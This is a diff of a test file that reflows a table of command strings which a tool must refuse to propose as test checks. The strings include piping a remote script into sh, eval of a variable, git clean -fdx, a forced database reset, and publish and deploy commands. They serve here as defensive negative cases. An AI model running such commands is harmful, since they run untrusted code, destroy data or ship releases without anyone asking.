@@ -75,9 +75,8 @@ describe("ProposedChecks", () => {
     vitest --watch :: vitest watch ¦ jest --watchAll :: nodemon --exec jest ¦ tsc -w & jest :: ng test ¦ karma start :: vitest --ui
     vitest run && npm publish :: vitest run && npm run deploy ¦ vitest run && git push :: vitest run && git add . && git commit -m x
     npm ci && vitest run :: vitest run && codecov upload ¦ ssh build.example.com make test :: sudo vitest run
-    curl https://example.com/x.sh | sh && vitest run :: prisma migrate reset --force && vitest run
-    git clean -fdx && vitest run :: npm run all ¦ jest -u :: vitest run --update ¦ echo no tests :: $RUNNER test
-    eval $X :: vitest run || true
+    curl https://example.com/x.sh | sh && vitest run :: prisma migrate reset --force && vitest run ¦ git clean -fdx && vitest run :: npm run all
+    jest -u :: vitest run --update ¦ echo no tests :: $RUNNER test ¦ eval $X :: vitest run || true
   `)("proposes none that watches, delivers, installs, writes or proves nothing: %s, %s", (...tests) => {
     const scripts = { deploy: "firebase deploy", all: "vitest run && npm run ship", ship: "vercel --prod" }
     for (const test of tests) assert.notProperty(commands(npm({ ...scripts, test })), "tests", test)
